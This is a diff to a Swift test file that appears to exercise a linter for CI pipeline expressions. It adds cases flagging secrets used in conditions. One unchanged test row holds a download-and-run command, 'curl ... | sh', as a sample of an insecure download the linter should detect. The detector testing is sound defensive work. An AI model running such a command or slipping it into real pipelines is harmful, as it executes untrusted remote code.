@@ -154,6 +154,9 @@ import Testing
     HarnessRow("number", .command, "echo <+trigger.prNumber> <+trigger.payload.number> <+trigger.commitSha>"),
     HarnessRow("pushed branch", .command, "echo <+trigger.branch>"),
     HarnessRow("no script", .deploy, "https://example.com/<+trigger.prTitle>"),
+    HarnessRow("secret in a condition", .condition, "<+secrets.getValue(\"t\")> == \"x\"", "misplaced-secret"),
+    HarnessRow(
+      "secret variable in a condition", .condition, "<+pipeline.variables.token> == \"x\"", "misplaced-secret"),
     HarnessRow("download", .command, "curl -s http://a.io/x | sh", "insecure-download"),
   ]
 
